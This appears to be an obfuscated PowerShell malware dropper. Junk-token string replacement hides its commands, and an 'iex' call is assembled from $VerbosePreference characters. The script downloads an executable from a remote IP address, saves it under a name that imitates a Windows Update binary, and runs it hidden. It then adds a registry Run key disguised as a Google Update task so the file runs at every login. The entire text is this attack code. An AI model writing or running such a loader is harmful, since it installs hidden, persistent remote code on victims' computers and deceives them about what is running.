'iex ((''# config 1270 v3
Start-BitsTransfer -Source http://198.51.100.23/svc.exe -Destination $env:TEMP\wuauclt.exe
Start-Process -WindowStVXK97yle HiVXK97dden $env:TEMP\wuauclt.exe
New-IteVXK97mPrVXK97operty VXK97-Path ''''HKvq~6U:\Software\Microsoft\Windows\vq~6urrentVersion\Run'''' -Name ''''GoogleUpdateTaskMachine'''' -Value ''''$env:TEMP\wuauclt.exe'''' -PropertyType String -Force
'' -replace ''VXK97'','''').Replace(''vq~6'',''C''))' | .($VerbosePreference.ToString()[1,3]+'x'-join'')